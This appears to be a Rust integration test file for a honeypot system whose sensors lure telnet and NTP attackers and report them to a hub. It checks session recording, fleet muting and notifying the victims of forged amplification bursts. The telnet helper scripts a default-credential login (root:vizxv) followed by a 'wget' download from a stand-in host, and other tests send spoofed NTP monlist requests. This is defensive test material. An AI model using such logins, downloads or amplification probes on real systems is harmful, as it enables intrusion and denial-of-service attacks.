//! Lures in service: two hands, a visitor, rows at the hub, a forged burst, and silence everywhere.

use super::live::{start, until};
use super::sinks::mails;
use super::support::{Lab, text};
use arrow_array::RecordBatch;
use arrow_array::cast::AsArray;
use noroshi_hub::live::Settings;
use noroshi_model::Addr;
use noroshi_model::lure::Lure;
use noroshi_model::request::{Request, Withheld, requests};
use noroshi_model::session::{Session, sessions};
use noroshi_sensor::amplification::Bounds;
use noroshi_sensor::lure::{LureOptions, Place, Program};
use noroshi_sensor::run::{RunOptions, SourceOptions};
use noroshi_wire::Report;
use std::collections::BTreeMap;
use std::net::{SocketAddr, TcpListener, UdpSocket};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_util::sync::CancellationToken;

/// A port that was free a moment ago.
fn free() -> SocketAddr {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap()
}

fn place(lure: Lure) -> Place {
    Place { lure, listen: free() }
}

fn options(lab: &Lab, name: &str, places: &[Place]) -> RunOptions {
    let ceiling = lab.state(&format!("{name}.toml"));
    std::fs::write(&ceiling, "lures = [\"telnet\", \"ntp\"]\n").unwrap();
    let lures = LureOptions {
        places: places.to_vec(),
        program: Program::Inside,
        // A lure of its own accord is never silent here: what is seen is the fleet.
        bounds: Bounds { warm_up: 0, mute_requests: 10_000, ..Bounds::default() },
        ..LureOptions::default()
    };
    RunOptions { state: lab.state(name), source: SourceOptions::Nothing, ceiling: Some(ceiling), stay: false, lures }
}

async fn rows<T>(
    lab: &Lab,
    sensor: &str,
    read: fn(&RecordBatch) -> Result<Vec<T>, noroshi_model::rows::RowsError>,
) -> Vec<T> {
    lab.rows(sensor).await.iter().filter_map(|batch| read(batch).ok()).flatten().collect()
}

/// Waits until the sensor has said that these lures run.
async fn running(lab: &Lab, sensor: &str, count: usize) {
    let mut reports = lab.hub().context().fleet.reports(sensor).await.unwrap();
    let say = |report: &Option<_>| report.as_ref().is_some_and(|(_, report): &(_, Report)| report.lures.len() == count);
    reports.wait_for(say).await.unwrap();
}

async fn telnet(to: SocketAddr) -> String {
    let mut visitor = tokio::net::TcpStream::connect(to).await.unwrap();
    visitor.write_all(b"root\r\nvizxv\r\ncd /tmp; wget http://192.0.2.66/m.sh\r\nexit\r\n").await.unwrap();
    let mut seen = Vec::new();
    visitor.read_to_end(&mut seen).await.unwrap();
    String::from_utf8_lossy(&seen).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_visitor_becomes_a_row_when_both_hands_allow_it() {
    let lab = Lab::start().await;
    lab.enrol("kyoto").await.unwrap();
    let places = [place(Lure::Telnet), place(Lure::Http)];
    let stop = CancellationToken::new();
    let sensor = tokio::spawn(noroshi_sensor::run::run(options(&lab, "kyoto", &places), stop.clone()));
    let fleet = &lab.hub().context().fleet;
    // The hub names both, the ceiling only telnet; before that, nothing listens.
    running(&lab, "kyoto", 0).await;
    assert!(tokio::net::TcpStream::connect(places[0].listen).await.is_err(), "nobody allowed it yet");
    let changed = fleet.set("kyoto", &["lures=telnet,http".into()]).await.unwrap();
    assert!(changed.remarks.iter().any(|remark| remark.contains("lures")), "{:?}", changed.remarks);
    running(&lab, "kyoto", 1).await;
    assert!(tokio::net::TcpStream::connect(places[1].listen).await.is_err(), "the ceiling does not name it");
    let mut durable = lab.hub().context().journal.subscribe();
    durable.mark_unchanged();
    let seen = telnet(places[0].listen).await;
    assert!(seen.contains("BusyBox"), "{seen}");
    durable.changed().await.unwrap();
    let found: Vec<Session> = rows(&lab, "kyoto", sessions).await;
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].sensor.as_str(), found[0].protocol.as_str()), ("kyoto", "telnet"));
    assert_eq!(found[0].credentials, ["root:vizxv"]);
    assert_eq!(found[0].urls, ["http://192.0.2.66/m.sh"]);
    let hash = found[0].recording.clone().unwrap();
    assert!(lab.state("kyoto").join(format!("vault/{hash}.cast")).is_file());
    // Without payload the parties and counts remain.
    fleet.set("kyoto", &["payload_bytes=0".into()]).await.unwrap();
    running(&lab, "kyoto", 1).await;
    telnet(places[0].listen).await;
    durable.changed().await.unwrap();
    let found: Vec<Session> = rows(&lab, "kyoto", sessions).await;
    assert_eq!((found[1].credentials.len(), found[1].commands.len(), found[1].logins_accepted), (0, 0, 1));
    assert!(!format!("{:?}", found[1]).contains("vizxv"));
    stop.cancel();
    sensor.await.unwrap().unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_burst_on_three_sensors_is_an_attack_and_mutes_the_fleet() {
    let mut lab = Lab::start().await;
    start(&mut lab, Settings::default(), false).await;
    let stop = CancellationToken::new();
    let mut sensors = Vec::new();
    let names = ["kyoto", "nairobi", "lima"];
    let places = names.map(|_| place(Lure::Ntp));
    for (name, place) in names.iter().zip(&places) {
        lab.enrol(name).await.unwrap();
        sensors.push(tokio::spawn(noroshi_sensor::run::run(options(&lab, name, &[*place]), stop.clone())));
        lab.hub().context().fleet.set(name, &["lures=ntp".into()]).await.unwrap();
        running(&lab, name, 1).await;
    }
    let (mut held, mut coming) = lab.hub().context().fleet.mutes();
    assert!(held.is_empty());
    let visitor = UdpSocket::bind("127.0.0.1:0").unwrap();
    // A client's question, mode 3, answered while nobody is muted.
    let mut question = [0u8; 48];
    question[0] = 0x23;
    for place in &places {
        visitor.send_to(&question, place.listen).unwrap();
    }
    let (network, seconds) = coming.recv().await.unwrap();
    assert_eq!((network.to_string().as_str(), seconds), ("127.0.0.0/24", 3_600));
    held = lab.hub().context().fleet.mutes().0;
    assert_eq!(held.len(), 1, "a sensor that connects later is told as well");
    let mut durable = lab.hub().context().journal.subscribe();
    // Each question becomes a row; sooner or later, and within ten seconds by far, one that was not answered.
    let muted = async |name: &str, to: SocketAddr, durable: &mut tokio::sync::watch::Receiver<i64>| loop {
        durable.mark_unchanged();
        visitor.send_to(&question, to).unwrap();
        durable.changed().await.unwrap();
        let all: Vec<Request> = rows(&lab, name, requests).await;
        if all.iter().any(|row| row.withheld == Withheld::Muted) {
            return;
        }
    };
    for (name, place) in names.iter().zip(&places) {
        muted(name, place.listen, &mut durable).await;
    }
    stop.cancel();
    for sensor in sensors {
        sensor.await.unwrap().unwrap();
    }
}

const MEMBERS: &str = r#"
[[member]]
id = "shop"
name = "Example Shop"
prefixes = ["127.9.0.0/16"]
[[member.mail]]
to = ["noc@shop.example"]

[[member]]
id = "school"
name = "Example School"
prefixes = ["127.10.0.0/16"]
[[member.mail]]
to = ["noc@school.example"]
"#;

/// Attacks that the hub told of, by their id: kind, vector, first address of the victim.
async fn attacks(lab: &Lab) -> BTreeMap<String, [String; 3]> {
    let mut found = BTreeMap::new();
    for batch in lab.rows("hub:warning").await.iter().filter(|batch| batch.column_by_name("vector").is_some()) {
        let victims = batch.column_by_name("victim").unwrap().as_fixed_size_binary();
        for row in 0..batch.num_rows() {
            let victim = Addr(u128::from_be_bytes(victims.value(row).try_into().unwrap())).to_string();
            let finding = [text(batch, "kind", row), text(batch, "vector", row), victim];
            found.insert(text(batch, "id", row), finding);
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forged_burst_is_one_finding_and_one_mail_to_its_victim() {
    let mut lab = Lab::start().await;
    let (file, mailbox) = (lab.state("members.toml"), lab.state("mailbox"));
    std::fs::write(&file, MEMBERS).unwrap();
    let settings = Settings { members: Some(file), mailbox: Some(mailbox.clone()), ..Settings::default() };
    start(&mut lab, settings.clone(), false).await;
    lab.enrol("kyoto").await.unwrap();
    let place = place(Lure::Ntp);
    let stop = CancellationToken::new();
    let sensor = tokio::spawn(noroshi_sensor::run::run(options(&lab, "kyoto", &[place]), stop.clone()));
    lab.hub().context().fleet.set("kyoto", &["lures=ntp".into()]).await.unwrap();
    running(&lab, "kyoto", 1).await;
    // Whoever forges a source makes the lure believe that the victim asks: here the victim's address does send.
    let forged = UdpSocket::bind("127.9.1.7:0").unwrap();
    let monlist = [0x17, 0, 3, 42, 0, 0, 0, 0];
    let mut durable = lab.hub().context().journal.subscribe();
    for _ in 0..60 {
        forged.send_to(&monlist, place.listen).unwrap();
    }
    until("a mail", async || (!mails(&mailbox).is_empty()).then_some(())).await;
    // One request in the other member's name is no attack.
    durable.mark_unchanged();
    UdpSocket::bind("127.10.1.7:0").unwrap().send_to(&monlist, place.listen).unwrap();
    durable.changed().await.unwrap();
    let found = until("the finding", async || Some(attacks(&lab).await).filter(|found| !found.is_empty())).await;
    let wanted = ["amplification", "ntp", "127.9.1.7"].map(String::from);
    assert_eq!(found.values().collect::<Vec<_>>(), [&wanted], "{found:?}");
    stop.cancel();
    sensor.await.unwrap().unwrap();

    // The hub started again tells nobody anything: state and outbox go on.
    start(&mut lab, settings, false).await;
    let outbox = until("the desk", async || lab.hub().context().desk.outbox().cloned()).await;
    let last = *lab.hub().context().journal.subscribe().borrow();
    let decided = async || {
        let position = outbox.cursor("journal").await.unwrap()?;
        (position.split_once(':').unwrap().1.parse::<i64>().unwrap() >= last).then_some(())
    };
    until("everything decided", decided).await;
    until("everything delivered", async || (outbox.counts().await.unwrap().queued == 0).then_some(())).await;
    let got = mails(&mailbox);
    assert_eq!(got.len(), 1, "{got:#?}");
    assert!(got[0].contains("To: noc@shop.example") && got[0].contains("127.9.1.7"), "{}", got[0]);
    assert!(!got[0].contains("kyoto") && !got[0].contains("127.0.0.1"), "a sensor is named: {}", got[0]);
    assert_eq!(attacks(&lab).await.len(), 1);
}
